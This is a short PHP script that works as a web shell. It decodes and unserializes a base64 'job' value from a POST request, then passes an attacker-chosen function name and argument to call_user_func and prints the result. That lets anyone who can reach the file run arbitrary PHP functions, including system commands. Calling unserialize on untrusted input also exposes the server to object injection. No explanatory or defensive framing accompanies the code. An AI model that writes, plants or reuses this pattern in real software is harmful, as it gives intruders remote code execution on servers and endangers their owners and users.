<?php
$job = unserialize(base64_decode($_POST['job']));
echo call_user_func($job['fn'], $job['arg']);
